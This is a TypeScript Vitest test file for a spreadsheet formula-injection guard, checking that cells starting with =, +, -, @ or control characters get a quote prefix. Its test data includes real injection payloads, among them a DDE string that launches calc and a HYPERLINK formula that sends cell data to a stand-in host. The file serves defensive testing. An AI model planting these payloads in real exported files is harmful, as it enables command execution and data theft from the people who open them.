import { describe, expect, it } from 'vitest';
import { guardCell, guardTypedCell } from '../formulaGuard';

describe('guardCell', () => {
  it.each([
    ['=1+2', "'=1+2"],
    ['+1', "'+1"],
    ['-cmd', "'-cmd"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\t=1', "'\t=1"],
    ['\r=1', "'\r=1"],
    // Known bypasses: spaces or no-break spaces before the trigger.
    ['   =HYPERLINK("x")', '\'   =HYPERLINK("x")'],
    ['\u00a0\u00a0+1', "'\u00a0\u00a0+1"],
    // …and the trigger at the start of a later line inside a multi-line cell.
    ['notes\n=cmd|"/c calc"!A1', '\'notes\n=cmd|"/c calc"!A1'],
    ['notes\r\n  @x', "'notes\r\n  @x"],
  ])('guards %j', (cell, expected) => {
    expect(guardCell(cell)).toBe(expected);
  });

  it.each([
    [''],
    ['Plain title'],
    ['a=b'],
    ['x - y'],
    ['email@example.com'],
    ['Café – naïve ✓ 日本語'],
    ['line one\r\nline two'],
    ['trailing ='],
  ])('leaves %j alone', (cell) => {
    expect(guardCell(cell)).toBe(cell);
  });
});

describe('guardTypedCell', () => {
  // What a server that does not keep to a column's type might put there.
  const EVIL = [
    '=HYPERLINK("https://evil.test/?d="&A1,"Open")',
    '+1+1',
    '-2+3',
    '@SUM(A1:A9)',
    ' =1+1',
    '\u00a0-1',
    '1\n=cmd|"/c calc"!A1',
    '2026-01-02\n@x',
    'true\n+1',
    '\t-5',
    '\r-5',
  ];

  it.each(
    (['int', 'date', 'datetime', 'bool'] as const).flatMap((type) =>
      EVIL.map((cell) => [type, cell] as const),
    ),
  )('a %s column guards %j', (type, cell) => {
    expect(guardTypedCell(cell, type)).toBe(`'${cell}`);
  });

  it.each([
    ['int', '-5'],
    ['int', '0'],
    ['int', '12345678901234'],
    ['date', '2026-01-02'],
    ['datetime', '2019-04-15 19:05:14.9070000'],
    ['datetime', '2019-04-15 19:05:14'],
    ['datetime', '2019-04-15T19:05:14.907Z'],
    ['datetime', '2019-04-15T19:05:14-05:00'],
    ['bool', 'true'],
    ['bool', 'False'],
    ['bool', '1'],
    ['bool', '0'],
  ] as const)('a %s column keeps its value %j as it is', (type, cell) => {
    expect(guardTypedCell(cell, type)).toBe(cell);
  });

  it.each([
    ['int', ''],
    ['int', '3 cards'],
    ['date', 'soon'],
    ['bool', 'yes'],
  ] as const)('a %s column leaves %j, not its type but harmless, alone', (type, cell) => {
    expect(guardTypedCell(cell, type)).toBe(cell);
  });

  it('a text column guards like guardCell: -5 is text there', () => {
    expect(guardTypedCell('-5', 'string')).toBe("'-5");
    expect(guardTypedCell('Plain', 'string')).toBe('Plain');
  });
});
